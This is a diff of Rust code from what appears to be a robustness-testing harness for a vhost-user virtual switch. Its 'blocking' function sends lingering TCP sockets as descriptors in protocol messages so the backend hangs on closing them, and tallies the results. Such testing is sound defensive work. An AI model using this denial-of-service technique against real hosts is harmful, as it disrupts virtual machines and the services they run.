@@ -8,7 +8,7 @@ use rustix::net::sockopt;
 use vhost_user::message::{FrontendReq as R, MemRegion, NO_FD, VringState};
 use vhost_user::sys;
 
-use super::wire::{FEATURES, GUEST, RX, TX, USER, addr, memfd, whole};
+use super::wire::{BUFFERS, FEATURES, GUEST, RX, TX, USER, addr, memfd, whole};
 use crate::{Attack, Error};
 
 /// A TCP socket that takes long to close and cannot be written to: it lingers for a second, and
@@ -25,44 +25,55 @@ fn lingering() -> Result<(OwnedFd, TcpStream), Error> {
     Ok((socket.into(), peer))
 }
 
-/// Such a socket in place of each descriptor of the protocol; ours is closed, so that the switch's
-/// is the last one.
+/// Such a socket in place of each descriptor; ours is closed, so that the switch's is the last one.
 pub fn blocking(attack: &mut Attack<'_>) -> Result<(), Error> {
-    let index = |ring: u32| u64::from(ring).to_ne_bytes().to_vec();
-    let table = MemRegion::table_to_bytes(&[whole()]);
-    let single = whole().to_single_bytes();
-    while let Some(raw) = attack.raw()? {
-        // As memory, in both messages, and where none is wanted.
-        for (request, payload) in [
-            (R::SET_MEM_TABLE, table.clone()),
-            (R::ADD_MEM_REG, single.clone()),
-            (R::GET_FEATURES, Vec::new()),
-            (R::SET_LOG_FD, Vec::new()),
-        ] {
-            let (socket, _peer) = lingering()?;
-            raw.send(request, payload, false, &[socket.as_fd()]);
-            attack.tally.attempts += 1;
+    // Their peers are there and take nothing: closing waits for them.
+    let mut peers = Vec::new();
+    let memory = [
+        (R::SET_MEM_TABLE, MemRegion::table_to_bytes(&[whole()])),
+        (R::ADD_MEM_REG, whole().to_single_bytes()),
+        // Where none is wanted.
+        (R::GET_FEATURES, Vec::new()),
+        (R::SET_LOG_FD, Vec::new()),
+    ];
+    for way in (0..memory.len() + 4).cycle() {
+        let Some(raw) = attack.raw()? else { return Ok(()) };
+        let (socket, peer) = lingering()?;
+        peers.push(peer);
+        if peers.len() > 64 {
+            peers.remove(0);
         }
-        if attack.on() && raw.negotiate(FEATURES) && raw.share() {
-            // As kick, call and error of rings that run.
-            for ring in [RX, TX] {
-                let ready = raw.place(ring, addr(ring), super::wire::SIZE);
-                for request in [R::SET_VRING_CALL, R::SET_VRING_ERR, R::SET_VRING_KICK] {
-                    let (socket, _peer) = lingering()?;
-                    if ready {
-                        raw.send(request, index(ring), false, &[socket.as_fd()]);
-                        attack.tally.attempts += 1;
-                    }
-                }
-                let on = VringState { index: ring, num: 1 }.to_bytes();
-                raw.send(R::SET_VRING_ENABLE, on, false, &[]);
+        if !raw.negotiate(FEATURES) {
+            attack.tally.turned_away += 1;
+            continue;
+        }
+        let fds = [socket.as_fd()];
+        let number = u64::from(TX).to_ne_bytes().to_vec();
+        match way.checked_sub(memory.len()) {
+            None => {
+                let (request, payload) = memory[way].clone();
+                raw.send(request, payload, false, &fds);
             }
-            raw.kick();
+            // Nobody takes it out of the socket.
+            Some(3) => drop(sys::send(raw.stream.as_fd(), &[1], &fds)),
+            // As call, error or kick of a ring that runs.
+            Some(i) => {
+                let request = [R::SET_VRING_CALL, R::SET_VRING_ERR, R::SET_VRING_KICK][i];
+                if raw.share() && raw.ring(RX) && raw.place(TX, addr(TX), super::wire::SIZE) {
+                    raw.send(request, number.clone(), false, &fds);
+                    if request != R::SET_VRING_KICK {
+                        raw.send(R::SET_VRING_KICK, number, false, &[raw.event.as_fd()]);
+                    }
+                    let on = VringState { index: TX, num: 1 }.to_bytes();
+                    raw.send(R::SET_VRING_ENABLE, on, false, &[]);
+                    // It is to be called for what it sent.
+                    raw.chain(TX, &[(BUFFERS, 72, 0)]);
+                }
+            }
         }
-        // Some that nobody takes out of the socket.
-        let (socket, _peer) = lingering()?;
-        let _ = sys::send(raw.stream.as_fd(), &[1], &[socket.as_fd()]);
-        attack.tally.ended += u64::from(raw.is_closed(Duration::from_millis(50)));
+        attack.tally.attempts += 1;
+        drop(socket);
+        attack.tally.ended += u64::from(raw.is_closed(Duration::from_millis(20)));
     }
     Ok(())
 }
